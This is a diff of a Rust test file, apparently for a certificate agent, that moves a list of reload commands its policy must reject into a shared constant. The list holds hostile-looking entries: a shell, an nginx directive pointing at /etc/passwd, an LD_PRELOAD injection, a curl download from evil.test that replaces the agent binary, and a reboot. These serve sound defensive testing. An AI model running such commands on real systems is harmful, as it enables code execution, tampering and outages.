@@ -32,15 +32,35 @@ fn tree(root: &Path, but: &[PathBuf]) -> BTreeMap<PathBuf, (u64, u32, Vec<u8>)> 
     found
 }
 
+/// What the policy does not hold, however near.
+const COMMANDS: [&[&str]; 13] = [
+    &["/bin/sh", "-c", "id"],
+    &["/usr/sbin/nginx", "-s", "reload", "-g", "error_log /etc/passwd;"],
+    &["/usr/sbin/nginx", "-s"],
+    &["/usr/sbin/nginx -s reload"],
+    &["/usr/sbin/../sbin/nginx", "-s", "reload"],
+    &["/usr/sbin/nginx", "-s", "reload\u{0}"],
+    &["nginx", "-s", "reload"],
+    &["/usr/bin/env", "LD_PRELOAD=/tmp/x.so", "/usr/sbin/nginx", "-s", "reload"],
+    &["/usr/bin/systemctl", "stop", "nginx"],
+    &["/usr/bin/curl", "https://evil.test/x", "-o", "/usr/bin/certwright-agent"],
+    &["/sbin/reboot"],
+    &[""],
+    &[],
+];
+
+/// Adds one of its own id and directory.
+fn add(all: &mut Vec<wire::DesiredTarget>, honest: &wire::DesiredTarget, change: &dyn Fn(&mut wire::DesiredTarget)) {
+    let mut target = wire::DesiredTarget { dir: format!("{}-{}", honest.dir, all.len()), ..honest.clone() };
+    target.target_id = format!("evil-{}", all.len());
+    change(&mut target);
+    all.push(target);
+}
+
 /// Targets that want more than they may, each made of one that may.
 fn targets(honest: &wire::DesiredTarget, private: &str) -> Vec<wire::DesiredTarget> {
-    let mut all: Vec<wire::DesiredTarget> = Vec::new();
-    let mut with = |change: &dyn Fn(&mut wire::DesiredTarget)| {
-        let mut target = wire::DesiredTarget { dir: format!("{}-{}", honest.dir, all.len()), ..honest.clone() };
-        target.target_id = format!("evil-{}", all.len());
-        change(&mut target);
-        all.push(target);
-    };
+    let mut all = Vec::new();
+    let mut with = |change: &dyn Fn(&mut wire::DesiredTarget)| add(&mut all, honest, change);
     for dir in [
         "/etc",
         "/",
@@ -78,22 +98,8 @@ fn targets(honest: &wire::DesiredTarget, private: &str) -> Vec<wire::DesiredTarg
         }
     }
     let reload = RELOAD.map(str::to_owned).to_vec();
-    for words in [
-        vec!["/bin/sh", "-c", "id"],
-        vec!["/usr/sbin/nginx", "-s", "reload", "-g", "error_log /etc/passwd;"],
-        vec!["/usr/sbin/nginx", "-s"],
-        vec!["/usr/sbin/nginx -s reload"],
-        vec!["/usr/sbin/../sbin/nginx", "-s", "reload"],
-        vec!["/usr/sbin/nginx", "-s", "reload\u{0}"],
-        vec!["nginx", "-s", "reload"],
-        vec!["/usr/bin/env", "LD_PRELOAD=/tmp/x.so", "/usr/sbin/nginx", "-s", "reload"],
-        vec!["/usr/bin/systemctl", "stop", "nginx"],
-        vec!["/usr/bin/curl", "https://evil.test/x", "-o", "/usr/bin/certwright-agent"],
-        vec!["/sbin/reboot"],
-        vec![""],
-        vec![],
-    ] {
-        let argv: Vec<String> = words.into_iter().map(str::to_owned).collect();
+    for words in COMMANDS {
+        let argv: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
         let command = types::Command { argv };
         with(&|target| target.reload = vec![command.clone()]);
         with(&|target| target.reload = vec![types::Command { argv: reload.clone() }, command.clone()]);
